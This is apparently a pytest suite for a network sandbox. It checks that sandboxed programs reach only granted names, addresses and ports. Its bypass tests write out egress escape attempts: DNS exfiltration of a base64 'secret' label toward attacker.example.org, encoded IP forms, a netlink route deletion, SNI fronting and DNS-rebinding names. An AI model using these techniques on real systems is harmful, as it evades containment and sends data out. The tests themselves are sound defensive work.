"""What leaves: the granted names, addresses and ports, for programs with and without proxies; nothing else, by any way.

The host is on an internet of the tests' own (``internet``), in namespaces without a route to anything. A denial has two
arms: the same action outside reaches its server; and the server, not the sandbox, says what arrived.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Generator
from contextlib import closing, contextmanager
from dataclasses import replace
from pathlib import Path
from textwrap import dedent

import pytest

from tests.kernel.net_harness import Internet, gateway_of
from tests.kernel.run_harness import World, ended, first_line, libc_python

pytestmark = [
    pytest.mark.kernel,
    pytest.mark.needs("ip", "unshare", "nsenter", "openssl", "curl", userns=True, landlock=2),
]

GRANTED = "granted.example.com"
OTHER = "other.example.com"
HELPERS = """
def talk(host, port, family=0):
    "One request over TCP, what came back, or the error."
    for family, kind, protocol, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        with socket.socket(family, kind, protocol) as client:
            client.settimeout(20)
            client.connect(address)
            client.sendall(b"GET / HTTP/1.0\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")
            answer = b""
            while piece := client.recv(65536):
                answer += piece
        if not answer:
            raise OSError(errno.ECONNRESET, "hung up")
        if b" 200 " not in answer:
            raise OSError(errno.EACCES, answer.decode())
        return answer
def udp(host, port, family=socket.AF_INET):
    "One datagram, and its echo."
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(20)
        client.connect((host, port))
        client.send(b"ping")
        return client.recv(1000)
"""


# --- what is granted works ---------------------------------------------------------------------------------------------


def test_a_granted_name_with_and_without_proxy_variables(net: Internet) -> None:
    (net.world.workspace / "ca.pem").write_bytes(net.authority.read_bytes())
    curl = "curl -sS -m 20 --cacert ca.pem"
    script = f"""
    {curl} http://{GRANTED}:8080/
    {curl} --noproxy '*' http://{GRANTED}:8080/
    {curl} https://{GRANTED}/
    {curl} --noproxy '*' https://{GRANTED}/
    {curl} --noproxy '*' -4 https://{GRANTED}/
    {curl} --noproxy '*' --socks5-hostname 127.0.0.1:880 https://{GRANTED}/
    """
    result = net.world.shell(script, "--connect", f"{GRANTED}:8080", "--connect", f"{GRANTED}:443")
    assert result.stderr == ""
    assert [line.split()[:2] for line in result.lines] == [["served", "by"]] * 6
    assert {line.split()[3] for line in result.lines} == {"8080", "443"}


def test_another_name_is_denied_with_and_without_proxy_variables(net: Internet) -> None:
    curl = "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n'"
    script = f"""
    {curl} http://{OTHER}:8080/
    {curl} --noproxy '*' http://{OTHER}:8080/ || true
    {curl} --noproxy '*' http://203.0.113.20:8080/ || true
    """
    result = net.world.shell(script, "--connect", f"{GRANTED}:8080")
    assert result.lines == ["403", "000", "000"]
    assert net.reached() == set()
    assert net.asked() == set()

    outside = subprocess.run(
        [*net.world.prefix, "curl", "-sS", f"http://{OTHER}:8080/"], capture_output=True, text=True, check=True
    )
    assert outside.stdout == "served by 203.0.113.20 8080\n" or "2001:db8::20" in outside.stdout


def test_a_network_is_granted_without_names(net: Internet) -> None:
    options = ("--connect", "203.0.113.20/32:5432", "--connect", "10.0.0.0/8:8080")
    tries = {
        "address": "talk('203.0.113.20', 5432)",
        "private": "talk('10.0.0.5', 8080)",
        "other port": "talk('203.0.113.20', 8080)",
        "other address": "talk('203.0.113.10', 5432)",
    }
    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
    assert net.world.probes(tries, *options, before=HELPERS) == {
        "address": "ok",
        "private": "ok",
        "other port": "ECONNRESET",
        "other address": "ECONNRESET",
    }


def test_every_name_is_granted(net: Internet) -> None:
    """As `research` grants it: whatever has a name and is of the internet; no address by itself, and nothing behind a name
    that is not of the internet."""
    tries = {
        "name": f"talk({GRANTED!r}, 8080)",
        "another": f"talk({OTHER!r}, 8080)",
        "loopback": "talk('rebound.example.com', 8080)",
        "private": "talk('private.example.com', 8080)",
        "address": "talk('203.0.113.20', 8080)",
        "port": f"talk({GRANTED!r}, 80)",
    }
    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
    net.forget()
    granted = dict.fromkeys(tries, "ECONNRESET") | {"name": "ok", "another": "ok"}
    assert net.world.probes(tries, "--connect", "*:8080", before=HELPERS) == granted
    net.forget()
    # A name that is only looked up leaves nothing outside, whatever it says.
    look = "socket.getaddrinfo('c2VjcmV0.attacker.example.org', 8080)"
    assert net.world.probe(look, "--connect", "*:8080") == "ok"
    assert net.seen() == []


def test_udp_is_granted_by_name_and_by_address(net: Internet) -> None:
    options = ("--connect", f"{GRANTED}:4433/udp", "--connect", "203.0.113.20:9999/udp")
    result = net.world.python(HELPERS + f"print(udp({GRANTED!r}, 4433)); print(udp('203.0.113.20', 9999))", *options)
    first, second = result.lines
    assert first in ("b'203.0.113.10 ping'", "b'2001:db8::10 ping'")
    assert second == "b'203.0.113.20 ping'"
    tries = {"not granted": "udp('203.0.113.30', 4444)", "granted host": f"udp({GRANTED!r}, 9998)"}
    assert set(net.world.probes(tries, *options, before=HELPERS).values()) == {"EPERM"}
    before = net.reached()
    code = HELPERS + "client = socket.socket(type=socket.SOCK_DGRAM); client.sendto(b'x', ('203.0.113.30', 4433))"
    # A granted port of another host arrives at the gateway, which sends it nowhere; a granted one after it is answered.
    assert net.world.python(code + f"\nprint(udp({GRANTED!r}, 4433))", *options).status == 0
    assert net.reached() == before


# --- ways around -------------------------------------------------------------------------------------------------------

TCP_BYPASSES = {
    "address of the granted name": "talk('203.0.113.10', 8080)",
    "IPv6 address of the granted name": "talk('2001:db8::10', 8080, socket.AF_INET6)",
    "another port of the granted name": f"talk({GRANTED!r}, 80)",
    "another address": "talk('203.0.113.20', 8080)",
    "another IPv6 address": "talk('2001:db8::20', 8080, socket.AF_INET6)",
    "IPv4-mapped IPv6": "talk('::ffff:203.0.113.20', 8080, socket.AF_INET6)",
    "integer address": "talk('3405803796', 8080)",
    "hexadecimal address": "talk('0xcb007114', 8080)",
    "odd CONNECT port": f"talk({GRANTED!r}, 22)",
}


def test_direct_tcp_reaches_nothing(net: Internet) -> None:
    assert set(net.world.outsides(TCP_BYPASSES, before=HELPERS).values()) == {"ok"}
    before = net.seen()
    assert set(net.world.probes(TCP_BYPASSES, "--connect", f"{GRANTED}:8080", before=HELPERS).values()) == {
        "ECONNRESET"
    }
    assert net.seen() == before  # no server was reached and no name was asked for
    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=HELPERS) == "ok"


def test_the_hosts_loopback_is_not_the_sessions(net: Internet) -> None:
    tries = {
        "IPv4": "talk('127.0.0.1', 8080)",
        "IPv6": "talk('::1', 8080, socket.AF_INET6)",
        "localhost": "talk('localhost', 8080)",
        "zero": "talk('0.0.0.0', 8080)",
    }
    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
    before = net.reached()
    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS)
    assert set(results.values()) <= {"ECONNREFUSED", "ECONNRESET"}
    # Not by the proxy either, which is outside.
    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:880"
    script = f"{curl} http://127.0.0.1:8080/; {curl} http://localhost:8080/; {curl} http://[::1]:8080/"
    assert net.world.shell(script, "--connect", f"{GRANTED}:8080").lines == ["403"] * 3
    assert net.reached() == before


def test_other_protocols(net: Internet) -> None:
    tries = {
        "udp": "udp('203.0.113.20', 9999)",
        "udp of the granted name": f"udp({GRANTED!r}, 4433)",
        "quic": "udp('203.0.113.10', 443)",
        "udp over IPv6": "udp('2001:db8::20', 9999, socket.AF_INET6)",
        "ping socket": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
        "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "raw over IPv6": "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
        "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)",
        "vsock": "socket.socket(40, socket.SOCK_STREAM)",
        "mptcp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)",
        "sctp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)",
        "fast open": "socket.socket().sendto(b'x', 0x20000000, ('203.0.113.20', 8080))",
        "abstract": "socket.socket(socket.AF_UNIX).connect('\\0remit-test-abstract')",
        "firewall": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)",
        "route": "route()",
    }
    assert net.world.outside("socket.socket(socket.AF_UNIX).connect('\\0remit-test-abstract')") == "ok"
    assert net.world.outside("udp('203.0.113.20', 9999)", before=HELPERS) == "ok"
    before = net.seen()
    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS + ROUTE)
    assert results == {
        "udp": "EPERM",
        "udp of the granted name": "EPERM",
        "quic": "EPERM",
        "udp over IPv6": "EPERM",
        "ping socket": "EACCES",
        "raw": "EPERM",
        "raw over IPv6": "EPERM",
        "packet": "EAFNOSUPPORT",
        "vsock": "EAFNOSUPPORT",
        "mptcp": "EPROTONOSUPPORT",
        "sctp": results["sctp"],
        "fast open": "ENOTSUP",
        "abstract": "ECONNREFUSED",
        "firewall": "EPROTONOSUPPORT",
        "route": "EPERM",
    }
    assert results["sctp"] in ("EPROTONOSUPPORT", "EPERM", "ESOCKTNOSUPPORT")
    assert net.seen() == before


ROUTE = """
def route():
    "Take away the route that leads to the gateway."
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 255, 3, 254, 2, 0)
        kernel.send(struct.pack("=IHHII", 16 + len(body), 25, 5, 1, 0) + body)
        error = -struct.unpack("=i", kernel.recv(100)[16:20])[0]
    if error:
        raise OSError(error, "refused by the kernel")
"""
QUERY = r"""
def query(name, kind=1, resolver="203.0.113.53", tcp=False):
    "The answer's code and how many records it has."
    packet = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"".join(bytes((len(x),)) + x.encode() for x in name.split("."))
    packet += b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(type=socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as client:
        client.settimeout(20)
        client.connect((resolver, 53))
        client.sendall((struct.pack(">H", len(packet)) if tcp else b"") + packet)
        answer = client.recv(4096)[2 if tcp else 0:]
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
"""


def test_the_resolver_hears_of_no_name_that_was_not_granted(net: Internet) -> None:
    secret = "c2VjcmV0.exfiltrated"
    names = [f"{secret}.{OTHER}", f"{secret}.{GRANTED}", OTHER, f"{GRANTED}.attacker.example.org"]
    code = QUERY + dedent(f"""
    def show(*arguments, **more):
        print(json.dumps(query(*arguments, **more)))
    import json
    for name in {names!r}:
        for resolver in ("203.0.113.53", "127.0.0.1", "192.0.2.1", "127.0.0.53"):
            show(name, resolver=resolver)
        for kind in (16, 28, 15, 65, 255):
            show(name, kind)
        show(name, tcp=True)
        show(name, resolver="192.0.2.1", tcp=True)
    """)
    result = net.world.python(code, "--connect", f"{GRANTED}:8080")
    assert result.status == 0, result.stderr
    answers = [json.loads(line) for line in result.lines]
    assert len(answers) == len(names) * 11
    assert {records for _, records in answers} == {0}
    assert {code for code, _ in answers} <= {3, 5}  # no such name, or refused
    assert net.asked() == set()

    # The control: granted, it resolves at any resolver's address; and only a connection asks the real one.
    code = QUERY + f"print(query({GRANTED!r}), query({GRANTED!r}, tcp=True), query({GRANTED!r}, resolver='192.0.2.1'))"
    assert net.world.python(code, "--connect", f"{GRANTED}:8080").stdout == "(0, 1) (0, 1) (0, 1)\n"
    assert net.asked() == set()
    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=HELPERS) == "ok"
    assert net.asked() == {GRANTED}


def test_a_public_name_for_a_private_address(net: Internet) -> None:
    """DNS rebinding, server-side request forgery: the name is granted, the address behind it is the host's own."""
    tries = {name: f"talk('{name}.example.com', 8080)" for name in ("rebound", "private")}
    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
    before = net.reached()
    options = ("--connect", "rebound.example.com:8080", "--connect", "private.example.com:8080")
    assert set(net.world.probes(tries, *options, before=HELPERS).values()) == {"ECONNRESET"}
    assert net.reached() == before
    assert net.world.probe(tries["private"], *options, "--connect", "10.0.0.5:8080", before=HELPERS) == "ok"


def test_the_outer_name_of_tls_is_the_granted_one(net: Internet) -> None:
    (net.world.workspace / "ca.pem").write_bytes(net.authority.read_bytes())
    before = net.reached()
    fronted = f"echo | openssl s_client -connect {GRANTED}:443 -servername {OTHER} 2>/dev/null | grep -c 'BEGIN CERT'"
    plain = f"echo | openssl s_client -connect {GRANTED}:443 -servername {GRANTED} 2>/dev/null | grep -c 'BEGIN CERT'"
    result = net.world.shell(f"{fronted}; {plain}", "--connect", f"{GRANTED}:443")
    assert result.lines == ["0", "1"]
    assert len(net.reached() - before) == 1


# --- nothing granted, and nothing more than granted --------------------------------------------------------------------


def test_without_a_grant_there_is_no_gateway(net: Internet) -> None:
    tries = {
        "tcp": "talk('203.0.113.10', 8080)",
        "udp": "udp('203.0.113.10', 4433)",
        "IPv6": "talk('2001:db8::10', 8080, socket.AF_INET6)",
    }
    assert set(net.world.probes(tries, before=HELPERS).values()) == {"ENETUNREACH"}
    result = net.world.shell("env | grep -ci _proxy; cat /etc/resolv.conf")
    assert result.lines == ["0", "nameserver 203.0.113.53"]  # the host's own file, which leads nowhere
    assert net.world.probe("socket.create_connection(('127.0.0.1', 880))") == "ECONNREFUSED"
    assert net.seen() == []


def test_the_hosts_network_only_by_name(net: Internet) -> None:
    options = ("--degrade", "network", "--connect", f"{GRANTED}:8080")
    assert net.world.probe("talk('203.0.113.20', 8080)", *options, before=HELPERS) == "ok"


def test_what_a_program_may_do_on_its_own_loopback(net: Internet) -> None:
    code = HELPERS + dedent("""
    import threading
    server = socket.create_server(("127.0.0.1", 3000))
    def serve():
        client, _ = server.accept()
        client.recv(1000)
        client.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n")
        client.close()
    threading.Thread(target=serve, daemon=True).start()
    print(talk("127.0.0.1", 3000))
    for port in (53, 880, 881):
        print(attempt(lambda: socket.create_server(("127.0.0.1", port))))
    """)
    result = net.world.python(code, "--connect", f"{GRANTED}:8080")
    assert result.lines == ["b'HTTP/1.0 200 OK\\r\\n\\r\\n'", "EACCES", "EACCES", "EACCES"], result.stderr


def closed_loopback(world: World, *lines: str) -> World:
    """The world with a profile without a loopback."""
    path = world.home / "closed.toml"
    head = ("format = 1", 'name = "closed"', 'extends = ["offline"]', "[network]", "loopback = false")
    path.write_text("\n".join((*head, *lines)) + "\n")
    path.chmod(0o644)
    return replace(world, profile=str(path))


SERVERS = """
def serve(port, host="127.0.0.1"):
    return socket.create_server((host, port), family=socket.AF_INET6 if ":" in host else socket.AF_INET)
def meet(port):
    server = serve(port)
    with socket.create_connection(("127.0.0.1", port), 20):
        server.accept()[0].close()
def bound(port):
    sock = socket.socket()
    sock.bind(("127.0.0.1", port))
"""
OWN_SERVERS = {
    "granted port": "meet(3000)",
    "granted port over IPv6": "serve(3000, '::1')",
    "another port": "meet(3001)",
    "bind alone": "bound(3002)",
    "any port": "bound(0)",
    "connect alone": "socket.create_connection(('127.0.0.1', 3001), 20)",
    "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 3001))",
}


@pytest.mark.needs(landlock=4)
@pytest.mark.parametrize("way_out", [False, True])
def test_without_a_loopback_only_the_ports_that_were_granted(net: Internet, way_out: bool) -> None:
    """``loopback = false``: Landlock holds TCP, and where there is a way out, its packet filter all else."""
    everything = dict.fromkeys(OWN_SERVERS, "ok") | {"connect alone": "ECONNREFUSED"}
    assert net.world.probes(OWN_SERVERS, before=SERVERS) == everything
    world = closed_loopback(net.world, "listen = [3000]", f'connect = ["{GRANTED}:8080"]' if way_out else "")
    assert world.probes(OWN_SERVERS, before=SERVERS) == {
        "granted port": "ok",
        "granted port over IPv6": "ok",
        "another port": "EACCES",
        "bind alone": "EACCES",
        "any port": "EACCES",
        "connect alone": "EACCES",
        "udp": "EPERM" if way_out else "ok",  # said: there UDP has one layer
    }
    if way_out:
        tries = {"granted": f"talk({GRANTED!r}, 8080)", "other": "talk('203.0.113.20', 8080)"}
        assert world.probes(tries, before=HELPERS) == {"granted": "ok", "other": "ECONNRESET"}
        curl = f"curl -sS -o /dev/null -w '%{{http_code}}\\n' http://{GRANTED}:8080/"
        assert world.shell(curl).lines == ["200"]
    else:
        results = closed_loopback(net.world).probes(OWN_SERVERS, before=SERVERS)
        assert results.pop("udp") == "ENETUNREACH"
        assert set(results.values()) == {"EACCES"}


@pytest.mark.needs(landlock=4)
def test_a_published_port_without_a_loopback(net: Internet) -> None:
    world = closed_loopback(net.world, "listen = [3000]")
    with world.start(*libc_python(SERVER), options=["--publish", "127.0.0.1:18080:3000"]) as process:
        assert first_line(process) == "up"
        assert [visit(net, 18080) for _ in range(3)] == ["from inside: hello"] * 3
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(60) == 0


# --- the gateway's life ------------------------------------------------------------------------------------------------


LOOP = (
    HELPERS
    + """
print("up", flush=True)
for line in sys.stdin:
    print(attempt(lambda: talk("granted.example.com", 8080)), flush=True)
"""
)


def ask(process: subprocess.Popen[str]) -> str:
    assert process.stdin is not None
    process.stdin.write("\n")
    process.stdin.flush()
    return first_line(process)


def test_the_gateway_starts_with_the_first_packet_and_ends_with_the_session(net: Internet) -> None:
    with net.world.start(
        *libc_python(LOOP), options=["--connect", f"{GRANTED}:8080"], env={"SECRET": "hunter2"}
    ) as process:
        assert first_line(process) == "up"
        assert gateway_of(process) == []
        assert ask(process) == "ok"
        (gateway,) = gateway_of(process)
        try:
            environment = Path(f"/proc/{gateway}/environ").read_bytes().strip(b"\0")
        except PermissionError:
            environment = b""  # nobody may look into it but root
        assert environment == b""
        process.communicate(timeout=60)
        assert process.returncode == 0
        assert ended(gateway)


def test_a_dead_gateway_is_no_network_and_is_said(net: Internet) -> None:
    with net.world.start(*libc_python(LOOP), options=["--connect", f"{GRANTED}:8080"]) as process:
        assert first_line(process) == "up"
        assert ask(process) == "ok"
        (gateway,) = gateway_of(process)
        os.kill(gateway, signal.SIGKILL)
        assert ended(gateway)
        reached = net.reached()
        assert ask(process) in ("EAI", "ECONNREFUSED", "ECONNRESET")
        assert net.reached() == reached
        _, errors = process.communicate(timeout=60)
        assert "the gateway is gone" in errors
        assert "no network from now on" in errors
    record = (net.world.records()[-1] / "events.jsonl").read_text().splitlines()
    assert [json.loads(line)["kind"] for line in record].count("gateway") == 1


def test_what_was_decided_is_recorded(net: Internet) -> None:
    tries = {"ok": f"talk({GRANTED!r}, 8080)", "denied": "talk('203.0.113.20', 8080)"}
    net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS)
    events = [json.loads(line) for line in (net.world.records()[-1] / "events.jsonl").read_text().splitlines()]
    network = [event for event in events if event.get("source") == "gateway" and event["right"] == "connect"]
    assert [(event["object"], event["verdict"]) for event in network] == [
        (f"{GRANTED}:8080/tcp", "allowed"),
        (f"{GRANTED}:8080/tcp", "ended"),
        ("203.0.113.20:8080/tcp", "denied"),
    ]
    assert network[0]["rule"]["text"] == "command line --connect"
    assert network[2]["layer"] == "gateway"
    assert events[-1]["denials"] == 1
    why = net.world.remit("why", "--last")
    assert "203.0.113.20:8080" in why.stdout, why


# --- published ports ---------------------------------------------------------------------------------------------------

SERVER = """
server = socket.create_server(("127.0.0.1", 3000))
print("up", flush=True)
for _ in range(3):
    client, _ = server.accept()
    client.sendall(b"from inside: " + client.recv(100))
    client.close()
sys.stdin.read()  # this program's end is the session's, and the end of what is on its way
"""


def visit(net: Internet, port: int) -> str:
    code = f"""
    client = socket.create_connection(("127.0.0.1", {port}), 20)
    client.sendall(b"hello")
    client.shutdown(socket.SHUT_WR)
    while piece := client.recv(100):
        print(piece.decode(), end="")
    """
    argv = [*net.world.prefix, *libc_python(code)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    return done.stdout or done.stderr.strip().rpartition("\n")[2]


def test_a_published_port_leads_inside(net: Internet) -> None:
    with net.world.start(*libc_python(SERVER), options=["--publish", "127.0.0.1:18080:3000"]) as process:
        assert first_line(process) == "up"
        assert [visit(net, 18080) for _ in range(3)] == ["from inside: hello"] * 3
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(60) == 0
    assert "ConnectionRefused" in visit(net, 18080)


def test_a_port_that_is_not_published_leads_nowhere(net: Internet) -> None:
    with net.world.start(*libc_python(SERVER), options=["--listen", "3000"]) as process:
        assert first_line(process) == "up"
        assert "ConnectionRefused" in visit(net, 3000)


def test_a_port_that_is_taken_ends_the_start(net: Internet) -> None:
    result = net.world.run("true", options=["--publish", "127.0.0.1:8080:3000"])
    assert result.status == 125
    assert "127.0.0.1:8080" in result.stderr
    assert "another port" in result.stderr


# --- Unix sockets ------------------------------------------------------------------------------------------------------


@contextmanager
def unix_server(path: Path, kind: int = socket.SOCK_STREAM) -> Generator[socket.socket, None, None]:
    """A server of the host's, at a path."""
    with closing(socket.socket(socket.AF_UNIX, kind)) as server:
        server.bind(str(path))
        if kind != socket.SOCK_DGRAM:
            server.listen()
        path.chmod(0o777)
        yield server


def connects(path: Path | str, kind: str = "SOCK_STREAM") -> str:
    return f"socket.socket(socket.AF_UNIX, socket.{kind}).connect({str(path)!r})"


@pytest.mark.parametrize("kind", [socket.SOCK_STREAM, socket.SOCK_SEQPACKET])
def test_a_socket_in_a_granted_directory_is_not_granted(world: World, kind: socket.SocketKind) -> None:
    path = world.workspace / "agent.sock"
    link = world.workspace / "link"
    link.symlink_to(path)
    with unix_server(path, kind):
        tries = {
            "name": connects(path, kind.name),
            "relative": connects("agent.sock", kind.name),
            "link": connects(link, kind.name),
        }
        assert set(world.outsides(tries).values()) == {"ok"}
        assert set(world.probes(tries).values()) == {"EACCES"}
        assert set(world.probes(tries, "--unix", str(path)).values()) == {"ok"}


def test_a_granted_socket_is_all_that_is_there_of_its_directory(world: World) -> None:
    runtime = world.base / "runtime"
    (runtime / "secret").write_text("x")
    os.chmod(runtime, 0o755)
    with unix_server(runtime / "bus"), unix_server(runtime / "docker.sock"):
        assert world.probe(connects(runtime / "bus")) == "ENOENT"
        tries = {
            "bus": connects(runtime / "bus"),
            "docker": connects(runtime / "docker.sock"),
            "file": f"read('{runtime}/secret')",
        }
        assert world.probes(tries, "--unix", str(runtime / "bus")) == {
            "bus": "ok",
            "docker": "ENOENT",
            "file": "ENOENT",
        }


def test_sockets_of_the_sessions_own(world: World) -> None:
    code = """
    for path in ("own.sock", "/tmp/own.sock", "/dev/shm/own.sock"):
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen()
        print(attempt(lambda: socket.socket(socket.AF_UNIX).connect(path)))
    """
    assert world.python(code).lines == ["ok"] * 3


def test_a_socket_that_is_not_there_or_is_none_refuses(world: World) -> None:
    result = world.run("true", options=["--unix", str(world.base / "none")])
    assert (result.status, "no such socket" in result.stderr) == (125, True)
    result = world.run("true", options=["--unix", str(world.home)])
    assert (result.status, "not a socket" in result.stderr) == (125, True)


# --- calls of one session ----------------------------------------------------------------------------------------------

CALLS = """
import json, os, sys
from remit import Grant, Session
program = sys.argv[1]
session = dict(profile="offline", workspace=os.environ["WORK"], connect=["granted.example.com:8080", "other.example.com:8080"])
with Session(**session) as running:
    for grant in (
        None,
        Grant(read=["."], connect=["other.example.com:8080"]),
        Grant(read=["."], connect=["granted.example.com:8080"]),
        Grant(read=["."]),
        Grant(read=["."], connect=["other.example.com:8080"]),
    ):
        result = running.run(["/usr/bin/python3", "-I", "-S", "-c", program], grant=grant, timeout=60)
        print(result.stdout.decode().strip() or result.stderr.decode(), flush=True)
"""
BOTH = """
import json
names = ("granted.example.com", "other.example.com", "203.0.113.20")
results = [attempt(lambda: talk(name, 8080)) for name in names]
print(json.dumps([*results, "HTTP_PROXY" in os.environ]))
"""


def test_a_calls_own_network_grant(net: Internet) -> None:
    """Each call reaches what it was granted, host by host, while its session may more; the record knows whose it was."""
    program = libc_python(HELPERS)[-1] + BOTH
    done = subprocess.run(
        [*net.world.prefix, sys.executable, "-c", CALLS, program],
        env=net.world.env({"WORK": str(net.world.workspace)}),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    everything, other, granted, nothing, again = (json.loads(line) for line in done.stdout.splitlines())
    assert everything == ["ok", "ok", "ECONNRESET", True]
    assert other == ["EAI", "ok", "ECONNRESET", True]
    assert granted == ["ok", "EAI", "ECONNRESET", True]
    assert nothing[2:] == ["ENETUNREACH", False]
    assert nothing[:2] == ["EAI", "EAI"]
    assert again == other

    events = [json.loads(line) for line in (net.world.records()[-1] / "events.jsonl").read_text().splitlines()]
    calls = [event["call"] for event in events if event["kind"] == "call"]
    ended = [(event.get("call", ""), event["object"]) for event in events if event.get("verdict") == "ended"]
    name = f"{GRANTED}:8080/tcp", f"{OTHER}:8080/tcp"
    assert ended == [("", name[0]), ("", name[1]), (calls[1], name[1]), (calls[2], name[0]), (calls[4], name[1])]
    judged = [event for event in events if event.get("source") == "gateway" and event["verdict"] == "denied"]
    denied = {(event.get("call", ""), event["object"]) for event in judged}
    assert (calls[1], "203.0.113.20:8080/tcp") in denied
    assert not any(call == calls[3] for call, _ in denied)


TOLD = """
import json, os, pickle, signal, sys
from remit import Grant, Session
hosts = ["granted.example.com:8080", "203.0.113.20:8080"]
def told(result):
    assert pickle.loads(pickle.dumps(result)).denials == result.denials and len(result.denials) == result.denied
    found = sorted({(one.object, one.right, " ".join(one.missing)) for one in result.denials})
    print(json.dumps([result.returncode, found, str(result.denials[0]).splitlines()[0] if found else ""]), flush=True)
with Session("offline", os.environ["WORK"], connect=hosts) as running:
    python = ["/usr/bin/python3", "-I", "-S", "-c"]
    for grant in (None, Grant(read=["."], connect=hosts[:1]), Grant(read=["."])):
        told(running.run([*python, sys.argv[1]], grant=grant, timeout=60))
    told(running.run([*python, sys.argv[2]], timeout=60))
    told(running.run(["true"]))
    # The gateway's word and the call's end lie there together when whoever writes the record wakes up.
    template = int(open(f"/proc/self/task/{os.getpid()}/children").read().split()[0])
    for _ in range(5):
        os.kill(template, signal.SIGSTOP)
        late = running.run([*python, sys.argv[1].replace("203.0.113.20", "203.0.113.30")], timeout=60)
        os.kill(template, signal.SIGCONT)
        told(late)
    with running.narrow(Grant(read=["."], connect=hosts[:1])) as narrow:
        told(narrow.run([*python, sys.argv[1]], timeout=60))
    gone = running.run(["false"])
    os.rename(gone.record, gone.record + "-away")
    try:
        gone.denials
    except Exception as error:
        print(type(error).__name__, gone.counted)
    os.rename(gone.record + "-away", gone.record)
"""


def test_a_calls_denials_have_what_the_network_refused(net: Internet) -> None:
    """The gateway's refusals and the namespace's are told beside the mediator's, of each call its own."""
    beside = "\ntry:\n    open('/usr/planted', 'w')\nexcept OSError:\n    pass\n"
    refused, reached = (
        libc_python(HELPERS)[-1] + text
        for text in (beside + "talk('203.0.113.20', 8080)\n", beside + "talk('granted.example.com', 8080)\n")
    )
    done = subprocess.run(
        [*net.world.prefix, sys.executable, "-c", TOLD, refused, reached],
        env=net.world.env({"WORK": str(net.world.workspace)}),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    *told, gone = done.stdout.splitlines()
    whole, own, none, fine, silent, *late, narrow = (json.loads(line) for line in told)
    planted = ["/usr/planted", "write", "--write /usr"]
    address = ["203.0.113.20:8080/tcp", "connect", "--connect 203.0.113.20:8080"]
    assert whole[:2] == [0, [planted]]
    for one in (own, narrow):
        assert one[0] != 0
        assert one[1] == [planted, address]
    assert none[0] != 0
    assert [*none[1][0]] == planted
    assert [thing.partition("/")[0] for thing, *_ in none[1][1:]] == ["203.0.113.20:8080"]
    assert fine[:2] == [0, [planted]]
    assert silent == [0, [], ""]
    for one in late:
        assert [thing for thing, *_ in one[1]] == ["/usr/planted", "203.0.113.30:8080/tcp"]
    assert gone == "RecordError 0"


NARROWED = """
import os
from remit import Grant, Session
hosts = ["granted.example.com:8080", "other.example.com:8080"]
with Session("offline", os.environ["WORK"], connect=hosts) as wide:
    with wide.narrow(Grant(read=["."], connect=hosts[:1])) as narrow:
        for session in (wide, narrow, narrow.narrow(Grant(read=["."]))):
            for host in hosts:
                done = session.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", f"http://{host}/"])
                print(done.stdout.decode(), end=" ")
"""


def test_a_narrowed_session_has_no_more_than_its_own_network(net: Internet) -> None:
    """Its calls have the grant of the narrower session, where they have none of their own: not the whole session's network."""
    done = subprocess.run(
        [*net.world.prefix, sys.executable, "-c", NARROWED],
        env=net.world.env({"WORK": str(net.world.workspace)}),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.split() == ["200", "200", "200", "403", "000", "000"], done
    assert [what.split()[1] for kind, what in net.seen() if kind == "tcp"] == ["8080"] * 3
